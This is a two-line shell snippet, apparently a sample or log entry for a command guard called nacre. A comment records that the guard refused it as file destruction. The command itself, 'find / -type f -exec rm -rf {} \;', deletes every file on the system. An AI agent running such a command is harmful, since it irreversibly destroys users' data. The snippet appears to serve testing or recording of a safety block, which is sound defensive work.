# nacre: refused file.destroy
find / -type f -exec rm -rf {} \;
